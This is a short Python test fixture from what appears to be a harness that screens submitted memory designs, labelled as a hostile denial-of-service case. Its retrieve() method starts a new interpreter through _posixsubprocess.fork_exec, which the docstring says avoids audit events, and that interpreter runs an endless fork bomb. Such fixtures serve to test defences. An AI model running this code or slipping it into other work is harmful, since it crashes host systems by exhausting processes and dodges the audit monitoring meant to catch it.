# ruff: noqa
"""A fork bomb inside retrieve(): a fresh interpreter started with _posixsubprocess.fork_exec (no audit
event) that forks forever.
ATTACK: dos
WHERE: call
EXPECT-OUTCOME: pids_exhausted
EXPECT-VERDICT: hostile
PASSES-VALIDATOR: no
"""

import os
import sys
import time

import _posixsubprocess

from harness.design import MemoryDesign

BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"


class DosForkBombRetrieve(MemoryDesign):
    async def retrieve(self, task):
        r, w = os.pipe()
        _posixsubprocess.fork_exec([sys.executable, "-c", BOMB], [os.fsencode(sys.executable)], True, (), "/",
                                   None, -1, -1, -1, -1, -1, -1, r, w, True, True, -1, None, None, None, -1,
                                   None, False)
        time.sleep(30)
        return {}

    async def update(self, episode):
        return None
